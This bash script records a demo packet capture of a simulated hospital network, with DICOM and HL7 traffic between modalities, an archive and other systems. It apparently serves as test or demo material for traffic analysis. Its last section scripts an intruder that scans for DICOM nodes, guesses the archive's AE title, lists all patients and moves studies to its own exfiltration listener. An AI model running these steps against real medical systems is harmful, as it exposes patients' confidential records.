#!/usr/bin/env bash
# Records demo/hospital.pcapng: some minutes of a small hospital, and then an intruder in it (needs root):   demo/record.sh
#
#   CT (DCMTK), MR (pynetdicom), ultrasound (dcmjs-dimse) fetch worklists (DCMTK wlmscpfs), report procedure steps (pynetdicom), store into
#   the archive (Orthanc) and ask it to commit; a workstation (DCMTK) queries and retrieves. HIS and RIS send ADT and orders, the patient
#   monitor sends PCD-01 reports (python-hl7) and the lab analyzer results (HAPI) to the interface engine (HAPI, node-hl7-server).
#   Then 10.20.0.99 looks for DICOM nodes, guesses the archive's AE title, lists its patients, and has studies moved to itself.
set -uo pipefail
cd "$(dirname "$(realpath "$0")")"
[ "$(id -u)" = 0 ] || { echo "record: needs root, for network namespaces" >&2; exit 1; }
../test/captures/record/peers.sh
source ../test/captures/record/lib.sh
DEMO=$REPO/demo
F=$WORK/files
M=$MESSAGES
PYNET="$PYTHON $RECORD_DIR/dicom_peer.py"
PYHL7="$PYTHON $RECORD_DIR/hl7_peer.py"
NODEHL7="$NODE $RECORD_DIR/hl7_peer.ts"
DCMJS="$NODE $RECORD_DIR/dcmjs_peer.ts"
"$PYTHON" "$DEMO/make_studies.py" "$F"
mkdir -p "$WORK/db" "$WORK/received" "$WORK/stolen"
sed "s#@DIR@#$WORK#" "$DEMO/orthanc.json.in" > "$WORK/orthanc.json"

hospital
host intruder 10.20.0.99 28:cd:c1:0b:ad:99                 # Raspberry Pi
number=80
for name in dx1 cr1 mg1 nm1 pt1 rf1 xa1 us2 us3 dose; do   # nodes that only listen
  host $name 10.20.0.$number 00:1d:4a:50:01:$number        # Carestream Health
  serve $name 104 storescp -q -aet "${name^^}" -od "$WORK/received" 104
  number=$((number + 1))
done
serve archive 104 Orthanc "$WORK/orthanc.json"
serve ris 104 wlmscpfs -q -dfp "$F/worklist" 104
serve ris 11112 $PYNET scp --port 11112 --aet RISMPPS
serve workstation 11112 storescp -q -aet WS01 -od "$WORK/received" 11112
serve ct 104 $PYNET listener --port 104 --aet CT01
serve engine 2575 $HAPI serve 2575 AA
serve engine 6661 $NODEHL7 serve 6661 AA
serve intruder 4242 storescp -q -aet EXFIL -od "$WORK/stolen" 4242
sleep 1

worklist_query() { on "$1" findscu -q -aet "$2" -aec RISWL -W -k 0010,0010 -k 0010,0020 -k 0008,0050 -k "(0040,0100)[0].0008,0060=$3" -k "(0040,0100)[0].0040,0001=$2" 10.20.0.40 104; }
study_key() { echo "0020,000D=1.2.826.0.1.3680043.10.1.77777.$1"; }

say "recording, about three minutes"
begin hospital "$WORK/hospital.pcap"
on monitor $PYHL7 repeat 10.20.0.50 2575 85 2 "$M/oru-pcd01.hl7" &
MONITOR=$!

# Admission, order, computed tomography.
on ris $PYHL7 send 10.20.0.50 2575 "$M/adt-a01.hl7"
sleep 6
on ris $PYHL7 send 10.20.0.50 2575 "$M/orm-o01.hl7"
sleep 6
on ct echoscu -q -aet CT01 -aec ARCHIVE 10.20.0.20 104
worklist_query ct CT01 CT
sleep 8
on ct $PYNET mpps --peer 10.20.0.40 --port 11112 --aet CT01 --aec RISMPPS >/dev/null
on ct storescu -q -R -aet CT01 -aec ARCHIVE 10.20.0.20 104 "$F"/ct-*.dcm
on ct $PYNET commit --peer 10.20.0.20 --port 104 --aet CT01 --aec ARCHIVE --linger 3 >/dev/null

# Magnetic resonance, ultrasound, lab.
worklist_query mr MR01 MR
sleep 8
on mr $PYNET store "$F"/mr-*.dcm --peer 10.20.0.20 --port 104 --aet MR01 --aec ARCHIVE >/dev/null
on lab $HAPI send 10.20.0.50 6661 "$M/oru-lab.hl7" >/dev/null 2>&1
worklist_query us US01 US
sleep 6
on us $DCMJS store 10.20.0.20 104 US01 ARCHIVE "$F"/us-*.dcm >/dev/null 2>&1

# A radiologist reads.
on workstation findscu -q -aet WS01 -aec ARCHIVE -S -k 0008,0052=STUDY -k 0010,0020=WWPHI0001 -k 0020,000D -k 0008,0050 10.20.0.20 104
on workstation movescu -q -aet WS01 -aec ARCHIVE -aem WS01 -S -k 0008,0052=STUDY -k "$(study_key 1)" 10.20.0.20 104
sleep 10
on ris $PYHL7 send 10.20.0.50 2575 "$M/mdm-t02.hl7" "$M/adt-a08.hl7"
on workstation findscu -q -aet WS01 -aec ARCHIVE -S -k 0008,0052=STUDY -k 0010,0020=WWPHI0002 -k 0020,000D 10.20.0.20 104
on workstation movescu -q -aet WS01 -aec ARCHIVE -aem WS01 -S -k 0008,0052=STUDY -k "$(study_key 2)" 10.20.0.20 104
sleep 15

# The intruder looks around.
for last in 80 81 82 83 84 85 86 87 88 89 20 40; do
  on intruder echoscu -q -aet ECHOSCU -aec ANY-SCP 10.20.0.$last 104
  sleep 0.7
done
sleep 4
for title in PACS ORTHANC DICOM STORESCP SERVER PACS_SCP IMAGES ARCHIVE; do
  on intruder echoscu -q -aet ECHOSCU -aec $title 10.20.0.20 104
  sleep 1.2
done
sleep 4
on intruder findscu -q -aet ECHOSCU -aec ARCHIVE -P -k 0008,0052=PATIENT -k 0010,0010="*" -k 0010,0020 -k 0010,0030 10.20.0.20 104
sleep 3
on intruder movescu -q -aet ECHOSCU -aec ARCHIVE -aem EXFIL -S -k 0008,0052=STUDY -k "$(study_key 1)" 10.20.0.20 104
on intruder movescu -q -aet ECHOSCU -aec ARCHIVE -aem EXFIL -S -k 0008,0052=STUDY -k "$(study_key 2)" 10.20.0.20 104
sleep 4

# Life goes on.
on workstation findscu -q -aet WS01 -aec ARCHIVE -S -k 0008,0052=STUDY -k 0010,0020=WWPHI0004 -k 0020,000D 10.20.0.20 104
on ris $PYHL7 send 10.20.0.50 2575 "$M/adt-a03.hl7"
wait $MONITOR
finish

"$NODE" "$REPO/test/captures/derive.ts" "$CAPTURE" "$DEMO/hospital.pcapng" '[{"format":"pcapng"}]'
say "hospital.pcapng: $(stat -c %s "$DEMO/hospital.pcapng") bytes"
